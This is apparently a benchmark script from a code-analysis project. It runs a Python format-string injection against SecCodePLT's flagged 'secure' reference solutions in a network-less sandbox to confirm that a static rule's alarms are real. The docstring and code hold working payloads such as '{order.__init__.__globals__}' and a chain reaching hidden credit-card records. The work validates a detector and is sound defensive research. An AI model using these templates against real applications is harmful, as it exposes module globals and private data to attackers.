"""Run the format-string exploit on every secure reference that ``treeplay-py-caller-format-string`` flags.

```bash
.venv/bin/python benchmarks/format_leak.py --data DATA_DIR     # DATA_DIR holds seccodeplt/{dev,train}.json
```

SecCodePLT's CWE-200 references format a caller's template with objects wrapped in a proxy that refuses some
attributes. The rule flags them all: a template can still walk from any object whose class is written in Python
to the module's globals (``{order.__init__.__globals__}``), and from there to every record the proxy was meant to
hide (``{order.__init__.__globals__[orders][ORD001].customer.credit_card}``). This script checks that claim by
running it, instead of asking the reader to trust it.

For each flagged reference: the template parameter is the one a ``.format(...)`` call is made on; the other
arguments come from the task's first capability case (read inside the sandbox: the data set's code never runs in
this process); each keyword the call passes (``order=...``) is tried with
the templates ``{KEYWORD.__init__.__globals__}`` and ``{KEYWORD.__getattr__.__globals__}``, in the sandbox
(bubblewrap, no network, read-only work folder).
The reference leaks when the output holds the module namespace (its ``'__builtins__'`` key). Prints one line per
reference and a summary; writes ``benchmarks/results/format_leak.json``; the last line is ``RESULT format_leak
ratio=<share that leaked> leaked=N flagged=M``. The tasks whose reference leaks are the ones
``benchmarks/reviewed_alarms.yaml`` counts as real weaknesses ("executed" evidence).
"""

from __future__ import annotations

import argparse
import ast
import json
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "src"))

from treeplay.oracles.base import Program  # noqa: E402
from treeplay.oracles.sandbox import Limits, Sandbox  # noqa: E402
from treeplay.oracles.static import scan_programs  # noqa: E402

RULE = "treeplay-py-caller-format-string"
RESULTS = ROOT / "benchmarks" / "results" / "format_leak.json"
MARK = "'__builtins__': "
# Methods a proxy class written in Python has: its constructor, or the __getattr__ that does the filtering.
METHODS = ("__init__", "__getattr__")

DRIVER = """\
import json, os, sys
here = os.path.dirname(os.path.abspath(__file__))
def run(name, ns):
    exec(compile(open(os.path.join(here, name)).read(), name, "exec"), ns)
cases = {}
run("setup.py", cases)
run("testcases.py", cases)
try:
    args = dict(cases["testcases"]["capability"][0][0])
except Exception:
    print("not run: no capability case")
    sys.exit(0)
args[sys.argv[2]] = sys.argv[3]
ns = {"__name__": "solution"}
run("solution.py", ns)
try:
    result = ns[sys.argv[1]](**args)
    print(result if isinstance(result, str) else repr(result))
except BaseException as err:
    print("raised", type(err).__name__, err)
"""

def format_keywords(code: str, entry: str) -> tuple[str, list[str]] | None:
    """(template parameter, keywords passed to its ``.format``) of the entry function, or None."""
    tree = ast.parse(code)
    for fn in ast.walk(tree):
        if isinstance(fn, ast.FunctionDef) and fn.name == entry:
            params = [a.arg for a in fn.args.args]
            for node in ast.walk(fn):
                if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
                        and isinstance(node.func.value, ast.Name) and node.func.value.id in params):
                    return node.func.value.id, [k.arg for k in node.keywords if k.arg]
    return None


def try_leak(sandbox: Sandbox, task, code: str) -> tuple[bool, str]:
    """Run the exploit against ``code``; (leaked, what happened)."""
    entry = task.tests.entry_point or task.entry_point
    found = format_keywords(code, entry)
    if found is None:
        return False, "not run: no template parameter"
    template, keywords = found
    seen = []
    for keyword, method in ((k, m) for k in keywords for m in METHODS):
        exploit = "{" + f"{keyword}.{method}.__globals__" + "}"
        with tempfile.TemporaryDirectory() as tmp:
            work = Path(tmp)
            # the data set's setup and cases run in the sandbox too, never in this process
            files = {"solution.py": code, "driver.py": DRIVER, "setup.py": task.tests.files.get("setup.py", ""),
                     "testcases.py": task.tests.files.get("testcases.py", "")}
            for name, text in files.items():
                (work / name).write_text(text, encoding="utf-8")
            out = sandbox.run(["python", str(work / "driver.py"), entry, template, exploit], workdir=work,
                              writable_work=False)
        if MARK in out.stdout:
            return True, f"leaked through {keyword}.{method}"
        seen.append(f"{keyword}.{method}: {(out.stdout or out.stderr).strip()[:80]}")
    return False, "; ".join(seen) or "no keyword to try"


def main(argv: list[str] | None = None) -> int:
    from treeplay.data.importers import import_tasks

    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--data", type=Path, required=True, help="the folder holding seccodeplt/{dev,train}.json")
    args = parser.parse_args(argv)
    tasks = [t for name in ("dev", "train") for t in import_tasks("seccodeplt", args.data / "seccodeplt" /
                                                                   f"{name}.json") if t.golden]
    found = scan_programs([Program(t.id, t.language, t.golden) for t in tasks], analyzers=["semgrep"],
                          severity="medium", cache=None)
    flagged = [t for t in tasks if any(f.rule == RULE for f in found[t.id])]
    sandbox = Sandbox(Limits(wall_seconds=20))
    rows = []
    for task in flagged:
        leaked, how = try_leak(sandbox, task, task.golden)
        rows.append({"task": task.id, "cwes": list(task.cwes), "leaked": leaked, "how": how})
        print(f"{task.id}: {'LEAKED' if leaked else 'held'} ({how})", flush=True)
    leaked = sum(r["leaked"] for r in rows)
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(json.dumps({"rule": RULE, "rows": rows}, indent=1) + "\n", encoding="utf-8")
    print(f"{leaked} of {len(rows)} flagged secure references leak the module's globals")
    print(f"RESULT format_leak ratio={leaked / len(rows) if rows else 0:.2f} leaked={leaked} flagged={len(rows)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
